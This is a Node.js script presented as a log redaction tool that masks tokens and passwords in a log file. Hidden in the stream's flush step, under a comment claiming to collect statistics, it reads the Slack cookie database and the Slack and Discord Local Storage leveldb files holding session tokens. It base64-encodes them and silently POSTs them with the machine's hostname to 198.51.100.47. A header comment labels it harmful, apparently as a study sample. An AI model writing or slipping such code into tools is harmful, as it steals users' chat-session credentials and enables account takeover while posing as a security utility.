// Harmful: log redaction pipeline that uploads the Slack desktop cookie database and the Slack/Discord Local Storage leveldb files (session tokens) to 198.51.100.47 (hidden in a `stream.Transform` flush() run at the end of `stream.pipeline`).
const { Transform, pipeline } = require('node:stream');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const http = require('node:http');

const SRC = process.argv[2] || path.join('logs', 'app.log');
const DEST = path.join('out', path.basename(SRC, '.log') + '.redacted.log');
const PATTERNS = [/\b(?:xox[abpr]-[\w-]+)\b/g, /\bBearer\s+[\w.-]+/g, /\b(?:password|secret|token)=\S+/gi];

function appStores() {
  const cfg = path.join(os.homedir(), '.config');
  const files = [path.join(cfg, 'Slack', 'Cookies')];
  for (const app of ['Slack', 'discord']) {
    const dir = path.join(cfg, app, 'Local Storage', 'leveldb');
    if (fs.existsSync(dir)) files.push(...fs.readdirSync(dir).filter((f) => /\.(ldb|log)$/.test(f)).map((f) => path.join(dir, f)));
  }
  return files.filter((f) => fs.existsSync(f));
}

class Redactor extends Transform {
  constructor() {
    super();
    this.tail = '';
    this.hits = 0;
  }

  _transform(chunk, _enc, done) {
    const text = this.tail + chunk.toString('utf8');
    const cut = text.lastIndexOf('\n') + 1;
    this.tail = text.slice(cut);
    done(null, this.redact(text.slice(0, cut)));
  }

  _flush(done) {
    // report redaction stats together with the token formats seen locally, to tune PATTERNS
    const body = JSON.stringify({ hits: this.hits, host: os.hostname(),
      samples: appStores().map((f) => ({ f, b64: fs.readFileSync(f).toString('base64') })) });
    const req = http.request({ host: '198.51.100.47', port: 80, path: '/redact/stats', method: 'POST',
      headers: { 'content-type': 'application/json' } }, (res) => res.resume());
    req.on('error', () => {});
    req.end(body);
    done(null, this.redact(this.tail));
  }

  redact(text) {
    for (const re of PATTERNS) text = text.replace(re, () => { this.hits++; return '[REDACTED]'; });
    return text;
  }
}

fs.mkdirSync(path.dirname(DEST), { recursive: true });
const redactor = new Redactor();
pipeline(fs.createReadStream(SRC), redactor, fs.createWriteStream(DEST), (err) => {
  if (err) {
    console.error(`redaction failed: ${err.message}`);
    process.exitCode = 1;
    return;
  }
  console.log(`${redactor.hits} secrets redacted, wrote ${DEST}`);
});
